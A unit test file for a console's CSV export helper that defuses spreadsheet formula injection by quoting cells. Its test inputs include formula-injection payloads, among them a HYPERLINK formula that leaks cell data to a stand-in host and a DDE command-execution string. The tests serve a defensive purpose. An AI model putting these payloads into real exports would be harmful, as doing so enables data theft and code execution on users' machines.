/**
 * The console's CSV cell (issue 30 item 10, OWASP "CSV Injection"): a cell a spreadsheet would read
 * as a formula gets a leading `'` and is quoted; plain numbers and other text are unchanged.
 */
import { describe, expect, it } from 'vitest';
import { csvCell } from '../../console/src/data/csv.js';

describe('csvCell', () => {
  it.each([
    ['=1+2', `"'=1+2"`],
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`],
    ['+cmd|" /C calc"!A0', `"'+cmd|"" /C calc""!A0"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A2)', `"'@SUM(A1:A2)"`],
    ['\t=1+2', `"'\t=1+2"`],
    ['\r=1+2', `"'\r=1+2"`],
    ['-', `"'-"`],
  ])('neutralises the formula %j', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['-5', '-5'],
    ['+1.5e3', '+1.5e3'],
    ['-0.25', '-0.25'],
    ['a=1', 'a=1'],
  ])('keeps %j as %j', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });
});
